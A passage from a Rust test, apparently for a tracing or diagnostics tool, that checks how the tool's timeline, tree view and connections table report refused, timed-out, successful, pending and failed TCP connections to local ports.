    let tl = text(&analyzer(&["timeline", "--color", "never", &trace]).stdout);
    for port in 1..=5 {
        assert!(
            !tl.contains(&format!("connected to 127.0.0.1:{port} (tcp)\n")),
            "port {port} shown as connected without a word after it:\n{tl}"
        );
    }
    for want in [
        "connecting to 127.0.0.1:1 (tcp)",
        "connection to 127.0.0.1:1 (tcp) refused after 1.0ms",
        "connection to 127.0.0.1:2 (tcp) timed out after 1.0ms",
        "connected to 127.0.0.1:3 (tcp) after 1.0ms",
        "connecting to 127.0.0.1:4 (tcp)",
        "connect to 127.0.0.1:5 (tcp) failed: ECONNREFUSED",
    ] {
        assert!(tl.contains(want), "missing {want:?}:\n{tl}");
    }

    let tree = text(&analyzer(&["tree", &trace]).stdout);
    assert!(tree.contains("conns 5 (3 failed)"), "{tree}");

    let rows = rows(
        &trace,
        "SELECT remote_port, failed, outcome, end_ns IS NOT NULL AS ended \
         FROM connections ORDER BY remote_port",
        &[],
    );
    let got: Vec<(i64, i64, &str, i64)> = rows
        .iter()
        .map(|r| {
            (
                i(r, "remote_port"),
                i(r, "failed"),
                s(r, "outcome"),
                i(r, "ended"),
            )
        })
        .collect();
    assert_eq!(
        got,
        vec![
            (1, 1, "refused", 1),
            (2, 1, "timed out", 1),
            (3, 0, "connected", 1),
            (4, 0, "in progress", 0),
            (5, 1, "refused", 1),
        ]
    );
}
